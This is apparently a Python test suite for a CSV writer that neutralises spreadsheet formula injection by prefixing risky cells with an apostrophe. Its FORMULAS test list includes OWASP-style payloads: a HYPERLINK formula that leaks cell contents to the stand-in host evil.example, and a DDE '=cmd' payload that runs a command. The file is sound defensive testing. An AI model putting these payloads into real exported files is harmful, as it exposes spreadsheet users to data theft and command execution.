"""The formula-safe CSV writer (io/safe_csv.py): which cells get the apostrophe, which stay as they are,
the raw opt-out, and the vectorised frame version agreeing with the cell rule."""
from __future__ import annotations

import csv
import io

import numpy as np
import pandas as pd
from hypothesis import given, settings
from hypothesis import strategies as st

from territory_desk.io.tables.safe_csv import FORMULA_START, csv_text, safe_cell, safe_frame, write_frame, writer

# OWASP's examples and the findings: each of these a spreadsheet would evaluate
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', "=cmd|' /C calc'!A0", "+1", "-1+2", "@SUM(A1)",
            "\t=1", "\r=1", "=1", "-", "--", "+", "@", "-A1", "-1e5+1", "- 1"]
# text that is safe as it is: no trigger first, or a plain negative decimal number (a number in any spreadsheet)
PLAIN = ["plain", "", " =1", "1+1", "a=b", "-12.5", "-71.0589", "-3e-4", "-.5", "-7", "-1E10", "0", "12.5"]


def test_formula_text_gets_an_apostrophe_and_plain_text_does_not():
    for text in FORMULAS:
        assert safe_cell(text) == "'" + text, text
    for text in PLAIN:
        assert safe_cell(text) == text, text


def test_numbers_stay_numbers_and_none_is_empty():
    for value in (-12.5, -1, 0, 3, np.float64(-2.25), np.int64(-4), True, float("-inf")):
        assert safe_cell(value) is value
    assert safe_cell(None) == ""


def test_raw_writes_every_cell_as_it_is():
    for text in FORMULAS:
        assert safe_cell(text, raw=True) == text
    rows = [["name", "value"], ["=1+2", -1.5], ["@x", None]]
    assert list(csv.reader(io.StringIO(csv_text(rows, raw=True)))) == [["name", "value"], ["=1+2", "-1.5"], ["@x", ""]]
    assert list(csv.reader(io.StringIO(csv_text(rows)))) == [["name", "value"], ["'=1+2", "-1.5"], ["'@x", ""]]


def test_writer_keeps_the_dialect_and_round_trips_through_a_csv_reader():
    buf = io.StringIO()
    w = writer(buf, lineterminator="\n", delimiter=";")
    w.writerow(["a;b", "\r=1", 'x"y'])
    w.writerows([[1, "=2"]])
    assert buf.getvalue().endswith("\n") and "\r\n" not in buf.getvalue().replace("\r=1", "")
    rows = list(csv.reader(io.StringIO(buf.getvalue(), newline=""), delimiter=";"))
    assert rows == [["a;b", "'\r=1", 'x"y'], ["1", "'=2"]]


def test_frame_text_columns_and_headers_are_neutralised_numbers_untouched():
    frame = pd.DataFrame({"=Lead": FORMULAS, "n": np.linspace(-5, 5, len(FORMULAS)),
                          "lon": ["-71.05"] * len(FORMULAS), "mixed": [None, 3, "=x", "ok"] * 3 + ["-1+2"] * 3})
    before = frame.copy()
    out = safe_frame(frame)
    pd.testing.assert_frame_equal(frame, before)  # the input frame is not changed
    assert list(out.columns) == ["'=Lead", "n", "lon", "mixed"]
    assert out["'=Lead"].tolist() == ["'" + f for f in FORMULAS]
    assert out["n"].dtype == np.float64 and (out["n"].to_numpy() == frame["n"].to_numpy()).all()
    assert out["lon"].tolist() == ["-71.05"] * len(FORMULAS)
    assert out["mixed"].tolist()[:4] == [None, 3, "'=x", "ok"] and out["mixed"].tolist()[-1] == "'-1+2"
    assert safe_frame(frame, raw=True) is frame
    clean = pd.DataFrame({"a": ["x", "-1.5"], "b": [1, 2]})
    assert safe_frame(clean) is clean  # nothing to change: no copy


def test_frame_with_pandas_string_columns():
    frame = pd.DataFrame({"a": pd.array(["=1", "ok", None, "-2"], dtype="string"), "n": [1, 2, 3, 4]})
    assert safe_frame(frame)["a"].tolist()[:2] == ["'=1", "ok"]
    buf = io.StringIO()
    write_frame(frame, buf)
    assert buf.getvalue().splitlines() == ["a,n", "'=1,1", "ok,2", ",3", "-2,4"]


def test_a_carriage_return_in_a_cell_never_splits_the_row():
    """csv quotes a CR only when the line terminator has one: with "\n" line ends a bare CR would
    start a new row in a spreadsheet, whose first cell (=1 here) would be a formula."""
    for raw in (False, True):
        text = csv_text([["id", "name"], ["A1", "x\r=1"], ["A2", "ok"]], raw, lineterminator="\n")
        assert list(csv.reader(io.StringIO(text, newline=""))) == [["id", "name"], ["A1", "x\r=1"], ["A2", "ok"]]
        buf = io.StringIO()
        write_frame(pd.DataFrame({"id": ["A1", "A2"], "name": ["x\r=1", "=2"], "v": [1.5, -2.0]}), buf, raw)
        rows = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
        assert rows == [["id", "name", "v"], ["A1", "x\r=1", "1.5"], ["A2", "=2" if raw else "'=2", "-2.0"]]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(st.none(), st.floats(allow_nan=False), st.integers(),
                          st.text(alphabet=st.sampled_from(list("=+-@\t\r\0.e1209 aZ")), max_size=6)), max_size=30))
def test_vectorised_frame_agrees_with_the_cell_rule(cells):
    frame = pd.DataFrame({"c": pd.Series(cells, dtype=object)})
    expected = [safe_cell(v) if isinstance(v, str) else v for v in cells]
    assert safe_frame(frame)["c"].tolist() == expected


def test_every_trigger_character_is_covered():
    assert set(FORMULA_START) == {"=", "+", "-", "@", "\t", "\r"}
    for ch in FORMULA_START:
        assert safe_cell(ch + "x").startswith("'")
